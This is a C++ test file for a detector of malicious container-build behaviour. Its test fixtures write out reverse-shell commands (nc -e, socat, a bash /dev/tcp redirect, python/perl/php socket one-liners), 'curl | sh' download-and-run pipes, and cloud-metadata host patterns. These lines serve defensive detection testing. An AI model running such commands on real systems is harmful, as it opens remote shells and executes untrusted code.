// Shapes, with what looks like them and is none.
#include "detect/shapes.h"

#include <algorithm>
#include <catch2/catch_test_macros.hpp>
#include <string>
#include <vector>

#include "tracker/executed.h"

using namespace kilnwatch;
using namespace kilnwatch::domain;

namespace {

Process ran(const std::string& exe, std::vector<std::string> args = {}) {
  Process process;
  process.pid = 20;
  process.ppid = 10;
  process.start = 5;
  process.exe = exe;
  process.args = std::move(args);
  return process;
}

Connection by(const std::string& exe, std::vector<std::string> args = {}) {
  Connection connection;
  connection.destination = {"192.0.2.1", 80};
  connection.process = ran(exe, std::move(args));
  return connection;
}

Step step(const std::string& instruction = "RUN x") {
  Step out;
  out.instruction = instruction;
  return out;
}

bool fetched(const Connection& connection, const std::string& name) {
  const auto names = detect::fetched_names(connection);
  return std::find(names.begin(), names.end(), name) != names.end();
}

}  // namespace

TEST_CASE("What an execution ran") {
  using tracker::executed_file;
  CHECK(executed_file(ran("/tmp/x")) == "/tmp/x");
  CHECK(executed_file(ran("/bin/sh", {"sh", "/tmp/p.sh", "-c"})) == "/tmp/p.sh");
  CHECK(executed_file(ran("/bin/bash", {"bash", "-ex", "-o", "pipefail", "p.sh"})) == "p.sh");
  CHECK(executed_file(ran("/usr/bin/python3", {"python3", "-u", "p.py"})) == "p.py");
  CHECK(executed_file(ran("/lib64/ld-linux-x86-64.so.2", {"ld", "/tmp/x"})) == "/tmp/x");
  CHECK(executed_file(ran("/lib/ld-musl-x86_64.so.1", {"ld", "/tmp/x"})) == "/tmp/x");
  CHECK(executed_file(ran("/bin/busybox", {"busybox", "sh", "/tmp/p.sh"})) == "/tmp/p.sh");
  CHECK(executed_file(ran("/bin/busybox", {"sh", "/tmp/p.sh"})) == "/tmp/p.sh");
  CHECK(executed_file(ran("/proc/self/exe", {"sh", "/tmp/p.sh"})) == "/tmp/p.sh");
  CHECK(executed_file(ran("/bin/busybox", {"busybox", "ash"})) == "-");
  CHECK(executed_file(ran("/bin/busybox", {"busybox", "wget", "x"})) == "/bin/busybox");
  CHECK(executed_file(ran("/bin/busybox")) == "/bin/busybox");
  for (const auto& code :
       {ran("/bin/sh", {"sh", "-c", "wget x"}), ran("/bin/busybox", {"busybox", "sh", "-c", "x"}),
        ran("/bin/sh", {"sh", "-ec", "x"}), ran("/usr/bin/perl", {"perl", "-e", "x"}),
        ran("/usr/bin/python3", {"python3", "-m", "pip"}), ran(""), ran("/bin/sh")})
    CHECK(executed_file(code).empty());
  for (const auto& told :
       {ran("/bin/sh", {"sh"}), ran("/bin/bash", {"bash", "-i"}),
        ran("/bin/bash", {"bash", "-s", "--", "x"}), ran("/bin/sh", {"sh", "-"})})
    CHECK(executed_file(told) == "-");
  auto cut = ran("/bin/sh", {"sh"});
  cut.args_cut = true;
  CHECK(executed_file(cut).empty());
}

TEST_CASE("Reverse shells by process and arguments") {
  using detect::reverse_shell;
  CHECK(reverse_shell(by("/bin/bash", {"bash", "-i"}), step()).find("itself holds") !=
        std::string::npos);
  for (const auto& shell :
       {by("/usr/bin/nc", {"nc", "-e", "/bin/sh", "192.0.2.1", "4444"}),
        by("/bin/nc", {"nc", "192.0.2.1", "4444", "-e", "/bin/sh"}),
        by("/bin/busybox", {"busybox", "nc", "192.0.2.1", "4444", "-e", "/bin/sh"}),
        by("/bin/busybox", {"nc", "192.0.2.1", "4444", "-e", "/bin/sh"}),
        by("/proc/self/exe", {"nc", "192.0.2.1", "4444", "-e", "/bin/sh"}),
        by("/usr/bin/nc.traditional", {"nc", "-nve", "/bin/sh", "192.0.2.1", "1"}),
        by("/usr/bin/ncat", {"ncat", "--exec", "/bin/sh", "192.0.2.1", "1"}),
        by("/usr/bin/socat", {"socat", "tcp:192.0.2.1:1", "EXEC:/bin/sh,pty"}),
        by("/usr/bin/python3",
           {"python3", "-c", "import socket,subprocess,os;s=socket.socket();os.dup2(s,0)"}),
        by("/usr/bin/perl", {"perl", "-e", "use Socket;exec(\"/bin/sh -i\")"}),
        by("/usr/bin/php", {"php", "-r", "$s=fsockopen(\"a\",1);exec(\"/bin/sh\");"})}) {
    INFO(shell.process.args.back());
    CHECK_FALSE(reverse_shell(shell, step()).empty());
  }
  CHECK_FALSE(
      reverse_shell(by("/usr/bin/x"), step("RUN bash -c 'exec 5<>/dev/tcp/192.0.2.1/80; cat <&5'"))
          .empty());
  CHECK_FALSE(reverse_shell(by("/usr/bin/nc", {"nc", "192.0.2.1", "1"}),
                            step("RUN mkfifo /tmp/f; sh -i </tmp/f | nc 192.0.2.1 1 >/tmp/f"))
                  .empty());
  auto udp = by("/bin/bash", {"bash"});
  udp.protocol = 17;
  CHECK(reverse_shell(udp, step()).empty());
  for (const auto& none :
       {by("/usr/bin/wget", {"wget", "-e", "robots=off", "http://a"}),
        by("/usr/bin/curl", {"curl"}), by("/bin/nc", {"nc", "-zv", "db", "5432"}), by(""),
        by("/bin/busybox", {"busybox", "wget", "http://a"}),
        by("/usr/bin/python3", {"python3", "-c", "import urllib.request"}),
        by("/usr/bin/python3", {"python3", "-m", "pip", "install", "python-socketio"}),
        by("/usr/bin/socat", {"socat", "-", "tcp:192.0.2.1:1"})})
    CHECK(reverse_shell(none, step("RUN mkfifo /run/x && wget http://a")).empty());
}

TEST_CASE("Downloads that go into a shell") {
  using detect::pipe_to_shell;
  CHECK(pipe_to_shell("RUN curl -fsSL https://a/x | sh") == "curl -fsSL https://a/x | sh");
  CHECK(pipe_to_shell("RUN apk add curl && wget -qO- http://a/x.sh |bash -s -- y") ==
        "wget -qO- http://a/x.sh |bash");
  CHECK_FALSE(pipe_to_shell("/bin/sh -c curl http://a | tee /tmp/x | sudo /bin/bash").empty());
  CHECK_FALSE(pipe_to_shell("RUN busybox wget -qO- http://a | busybox sh").empty());
  for (const auto* none :
       {"RUN curl -o x http://a || sh y", "RUN curl http://a | tar xz", "RUN cat x | sh",
        "RUN curl http://a; cat x | sh", "RUN curl http://a | shasum -c", "RUN x", ""}) {
    INFO(none);
    CHECK(pipe_to_shell(none).empty());
  }
  CHECK(pipe_to_shell(std::string(100'000, '|')).empty());
}

TEST_CASE("What may have been fetched, and that it was executed") {
  auto connection = by("/usr/bin/wget", {"wget", "http://a/d/payload.sh?x=1", "-qO", "/tmp/p"});
  connection.http_path = "/d/payload.sh?x=1";
  CHECK(fetched(connection, "payload.sh"));
  CHECK(fetched(connection, "p"));
  CHECK_FALSE(fetched(connection, "wget"));
  CHECK(fetched(by("/usr/bin/curl", {"curl", "-sSLo", "miner", "https://a/"}), "miner"));
  CHECK(fetched(by("/usr/bin/curl", {"curl", "--output=/opt/m", "https://a/"}), "m"));
  CHECK(fetched(by("/usr/bin/wget", {"wget", "-O/tmp/m", "https://a/"}), "m"));
  CHECK_FALSE(fetched(by("/usr/bin/pip", {"pip", "install", "pytest"}), "pytest"));
  CHECK(detect::fetched_names(by("")).empty());

  using detect::executes_fetched;
  CHECK(executes_fetched(ran("/tmp/p"), connection) == "/tmp/p, fetched from 192.0.2.1 port 80");
  CHECK_FALSE(executes_fetched(ran("/bin/sh", {"sh", "./payload.sh"}), connection).empty());
  CHECK(executes_fetched(ran("/bin/sh", {"sh", "-c", "x"}), connection).empty());
  CHECK(executes_fetched(ran("/usr/bin/wget"), connection).empty());
  CHECK(executes_fetched(ran("/usr/bin/make"), connection).empty());
  const auto script = by("/usr/bin/python3.11", {"python3", "/lab/get.py", "/tmp/p"});
  CHECK(executes_fetched(ran("/usr/bin/python3.11", script.process.args), script).empty());
  CHECK_FALSE(executes_fetched(ran("/tmp/p"), script).empty());
}

TEST_CASE("What a Dockerfile has executed of what was fetched") {
  const auto connection = by("/usr/bin/wget", {"wget", "-O", "/opt/p.sh", "http://a/x"});
  const auto starts = [&](const std::string& text) {
    DockerfileSeen file;
    file.instructions = {{"FROM alpine", false, true}, {text, text.starts_with("RUN"), false}};
    Build build;
    build.dockerfile = file;
    return !detect::starts_fetched(build, connection).empty();
  };
  for (const auto* text :
       {"RUN sh /opt/p.sh", "RUN chmod +x /opt/p.sh && /opt/p.sh -x", "CMD [\"/opt/p.sh\"]",
        "ENTRYPOINT [\"sh\", \"-x\", \"/opt/p.sh\"]", "CMD A=b exec /opt/p.sh", "RUN . /opt/p.sh",
        "RUN cd /opt; (./p.sh &)", "RUN true |/opt/p.sh", "RUN x=$(date); /opt/p.sh"}) {
    INFO(text);
    CHECK(starts(text));
  }
  for (const auto* text :
       {"RUN chmod +x /opt/p.sh", "RUN cp /opt/p.sh /x", "COPY p.sh /opt/p.sh",
        "RUN wget -O /opt/p.sh http://a/x", "LABEL a=/opt/p.sh", "RUN", "",
        "RUN wget http://a:80$(cat /port)/p.sh", "RUN wget ${HOST}/p.sh; true"}) {
    INFO(text);
    CHECK_FALSE(starts(text));
  }
}

TEST_CASE("A shell that the connection's process became or started") {
  using detect::shell_of;
  auto agent = by("/tmp/agent");
  agent.process.pid = 20;
  auto became = ran("/bin/sh", {"sh", "-i"});
  CHECK(shell_of(became, agent).find("took the place of /tmp/agent") != std::string::npos);
  auto child = ran("/bin/bash", {"bash"});
  child.pid = 30;
  child.ppid = 20;
  CHECK(shell_of(child, agent).find("was started by /tmp/agent") != std::string::npos);
  child.args = {"bash", "-c", "make"};
  CHECK(shell_of(child, agent).empty());
  child.args = {"bash"};
  child.ppid = 21;
  CHECK(shell_of(child, agent).empty());
  CHECK(shell_of(ran("/usr/bin/make", {"make"}), agent).empty());
  CHECK_FALSE(shell_of(ran("/bin/busybox", {"busybox", "ash"}), agent).empty());
}

TEST_CASE("What an ADD fetched goes by the name that it has in the image") {
  Build build;
  build.dockerfile = DockerfileSeen{};
  Connection made;
  made.by_engine = true;
  made.http_path = "/payload.sh?x=1";
  const auto starts = [&](const std::string& add, const std::string& cmd) {
    build.dockerfile->instructions = {{add, false, false}, {cmd, false, false}};
    return detect::starts_fetched(build, made);
  };
  CHECK(starts("ADD http://$H/payload.sh /run.sh", "CMD [\"sh\", \"/run.sh\"]") ==
        "CMD [\"sh\", \"/run.sh\"]");
  CHECK_FALSE(starts("ADD [\"http://a/payload.sh\", \"/run.sh\"]", "ENTRYPOINT /run.sh").empty());
  CHECK_FALSE(starts("ADD http://a/payload.sh /opt/", "CMD /opt/payload.sh").empty());
  CHECK_FALSE(starts("ADD --chmod=755 http://a/payload.sh /run.sh", "CMD /run.sh").empty());
  CHECK(starts("ADD http://a/other.sh /run.sh", "CMD /run.sh").empty());
  // Over TLS the path is not known: by the host.
  made.http_path.clear();
  made.tls_name = "a.test";
  CHECK_FALSE(starts("ADD https://a.test/payload.sh /run.sh", "CMD /run.sh").empty());
  CHECK(starts("ADD https://b.test/payload.sh /run.sh", "CMD /run.sh").empty());
  made.by_engine = false;  // of a step's nothing is renamed by an ADD
  CHECK(starts("ADD https://a.test/payload.sh /run.sh", "CMD /run.sh").empty());
}

TEST_CASE("Unpacking") {
  CHECK(detect::unpacker(ran("/bin/tar", {"tar", "xz"})) == "tar xz");
  CHECK(detect::unpacker(ran("/bin/busybox", {"busybox", "tar", "xz"})) == "busybox tar xz");
  CHECK(detect::unpacker(ran("/usr/bin/gcc", {"gcc"})).empty());
  DockerfileSeen file;
  file.instructions = {{"FROM scratch", false, true}, {"ADD rootfs.tar.xz /", false, false}};
  CHECK(detect::unpacked_root(file) == "ADD rootfs.tar.xz /");
  file.instructions[1].text = "ADD [\"x.TGZ\", \"/\"]";
  CHECK_FALSE(detect::unpacked_root(file).empty());
  file.instructions[1].text = "COPY --from=build /app.tar.gz /app";
  CHECK(detect::unpacked_root(file).empty());
  file.instructions[1].text = "ADD rootfs.tar.xz /";
  file.instructions.push_back({"FROM alpine", false, true});
  CHECK(detect::unpacked_root(file).empty());
}

TEST_CASE("Hosts of what the engine is to fetch") {
  using detect::host_of_url;
  CHECK(host_of_url("http://A.test/x") == Endpoint{"a.test", 0});
  CHECK(host_of_url("https://u:***@a.test:8443?x") == Endpoint{"a.test", 8443});
  CHECK(host_of_url("http://[::1]:80/") == Endpoint{"::1", 80});
  CHECK(host_of_url("git@github.com:a/b.git").ip == "github.com");
  CHECK(host_of_url("http://a:99999/") == Endpoint{"a", 0});
  CHECK(host_of_url("").ip.empty());
  for (const auto* own : {"http://[::ffff:169.254.169.254]/x", "http://[0:0::ffff:a9fe:a9fe]:80/",
                          "http://169.254.169.254./x", "http://u@METADATA.google.internal./"})
    CHECK(detect::is_metadata(host_of_url(own).ip, 0));
  CHECK(host_of_url("http://[0:0:0:0:0:0:0:1%25lo]/") == Endpoint{"::1", 0});
  for (const auto* own : {"http://LOCALHOST./", "http://ip6-localhost:5000", "http://a.localhost/"})
    CHECK(detect::is_own_name(host_of_url(own).ip));
  CHECK_FALSE(detect::is_own_name("localhost.test"));
  CHECK(detect::is_metadata("169.254.169.254", 80));
  CHECK(detect::is_metadata("metadata.google.internal", 0));
  CHECK_FALSE(detect::is_metadata("169.254.169.254", 53));  // the resolver of a cloud
  CHECK_FALSE(detect::is_metadata("169.254.1.1", 80));
}

TEST_CASE("Ports of pools") {
  CHECK(detect::is_mining_port(3333));
  CHECK_FALSE(detect::is_mining_port(443));
  CHECK_FALSE(detect::is_mining_port(0));
}
